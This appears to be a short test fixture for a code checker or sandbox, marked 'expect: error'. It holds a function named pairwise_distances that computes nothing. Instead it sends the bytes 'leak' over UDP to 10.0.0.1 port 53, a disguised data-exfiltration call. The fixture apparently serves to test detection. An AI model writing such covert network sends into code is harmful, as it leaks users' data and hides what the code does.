# expect: error
import socket


def pairwise_distances(a, b):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.sendto(b"leak", ("10.0.0.1", 53))
    return a
